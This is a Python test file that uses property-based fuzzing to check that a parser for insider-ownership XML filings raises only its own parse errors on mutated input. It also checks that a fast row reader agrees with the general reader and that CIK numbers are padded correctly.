MUTATIONS = ("truncate", "delete_span", "garble_value", "insert_junk")
_VALUE = re.compile(r"<(value|isDirector|isOfficer|rptOwnerCik|issuerCik|documentType|signatureDate)>([^<]*)<")


@pytest.mark.skipif(not XML_NAMES, reason=NO_CORPUS)
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_corpus_xml_raises_only_parse_error(data):
    text = data.draw(st.sampled_from(all_corpus_texts()), label="document")
    mutation = data.draw(st.sampled_from(MUTATIONS), label="mutation")
    if mutation == "truncate":
        cut = data.draw(st.integers(0, len(text)), label="cut")
        mutated = text[:cut]
    elif mutation == "delete_span":
        start = data.draw(st.integers(0, len(text)), label="start")
        end = data.draw(st.integers(start, min(len(text), start + 400)), label="end")
        mutated = text[:start] + text[end:]
    elif mutation == "garble_value":
        values = [m.span(2) for m in _VALUE.finditer(text)]
        start, end = data.draw(st.sampled_from(values), label="value")
        garbage = data.draw(st.text(max_size=40), label="garbage")
        mutated = text[:start] + garbage + text[end:]
    else:
        at = data.draw(st.integers(0, len(text)), label="at")
        junk = data.draw(st.text(alphabet=st.sampled_from('<>/&;"= x1.-'), max_size=20), label="junk")
        mutated = text[:at] + junk + text[at:]
    try:
        filings = ownership_xml.read(mutated)
    except ParseError as error:
        assert error.code in ERROR_CODES
        assert error.detail
        return
    for parsed in filings:
        assert_typed(parsed)


# --- the one-pass row reader against the general walk -------------------------------------------

_ROW_KIND = ownership_xml._ROW_KINDS["derivativeTransaction"]
_ROW_FIELD_TAGS = sorted(_ROW_KIND.fields)
_ROW_TEXTS = st.sampled_from(["", " ", "5", "1,000", "12.5", "0.123456789", "2005-11-10", "A", "D", "I", "1", "x"])


def _xml_node(depth: int, messy: bool) -> st.SearchStrategy[str]:
    """Row content as filers write it (fields with and without <value>, marks on fields, on
    values and on groups, groups in groups) and, when messy, as they should not: unknown
    elements, stray values, marks with children, fields in fields, processing instructions."""
    mark = st.builds(lambda fid: f'<footnoteId id="{fid}"/>', st.sampled_from(["F1", "F2", "F3"]))
    marks = st.lists(mark, max_size=2).map("".join)
    field = st.one_of(
        st.builds(lambda tag, text: f"<{tag}>{text}</{tag}>", st.sampled_from(_ROW_FIELD_TAGS), _ROW_TEXTS),
        st.builds(lambda tag, text, before, after: f"<{tag}>{before}<value>{text}</value>{after}</{tag}>",
                  st.sampled_from(_ROW_FIELD_TAGS), _ROW_TEXTS, marks, marks),
    )
    leaves = [field, mark]
    if messy:
        leaves += [st.builds(lambda text: f"<value>{text}</value>", _ROW_TEXTS), st.just("<?pi data?>"),
                   st.just("<unknownThing/>")]
    leaf = st.one_of(*leaves)
    if depth == 0:
        return leaf
    inner = st.lists(_xml_node(depth - 1, messy), max_size=4).map("".join)
    containers = sorted(ownership_xml._ROW_GROUPS)
    if messy:
        containers += [*_ROW_FIELD_TAGS, "value", "footnoteId", "other"]
    return st.one_of(leaf, st.builds(lambda tag, body: f"<{tag}>{body}</{tag}>", st.sampled_from(containers), inner))


_ROW_BODIES = st.booleans().flatmap(lambda messy: st.lists(_xml_node(3, messy), max_size=8).map("".join))


def _outcome(read, row_el):
    row, refs = dict(_ROW_KIND.template), []
    try:
        ok = read(row_el, _ROW_KIND.fields, ownership_xml._ROW_GROUPS, row, refs, "row", _ROW_KIND.container_fields)
    except ParseError as error:
        return ("error", error.code, error.detail), True
    return (row, refs), ok is not False


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=_ROW_BODIES)
@example(body='<transactionCoding><transactionCode>P</transactionCode><footnoteId id="F1"/></transactionCoding>')
@example(body='<transactionShares>5<footnoteId id="F1"/></transactionShares>')
@example(body='<transactionShares><value>5</value><value>6</value><footnoteId id="F2"/></transactionShares>')
@example(body='<transactionAmounts><transactionShares><value>5</value></transactionShares><value>7</value></transactionAmounts>')
def test_one_pass_row_reader_reads_what_the_general_walk_reads(body):
    row_el = etree.fromstring(f'<derivativeTransaction><footnoteId id="F0"/>{body}</derivativeTransaction>')
    general, _ = _outcome(ownership_xml._read_fields, row_el)
    one_pass, finished = _outcome(ownership_xml._read_flat, row_el)
    if finished:  # it either reads the row exactly as the general walk does, or hands it over
        assert one_pass == general
    record = ownership_xml._read_record
    try:
        assert record(row_el, _ROW_KIND.fields, ownership_xml._ROW_GROUPS, _ROW_KIND.template, "row",
                      _ROW_KIND.container_fields) == general
    except ParseError as error:
        assert general == ("error", error.code, error.detail)


def test_cik_zero_is_no_cik_as_everywhere():
    """The one CIK rule (values.pad_cik): 10 digits with leading zeros, and CIK 0 names no company."""
    [parsed] = ownership_xml.read(minimal_document().replace("<issuerCik>1<", "<issuerCik> 0000 <"))
    assert parsed.filing["issuer_cik"] is None
    [parsed] = ownership_xml.read(minimal_document().replace("<issuerCik>1<", "<issuerCik>320193<"))
    assert parsed.filing["issuer_cik"] == "0000320193"
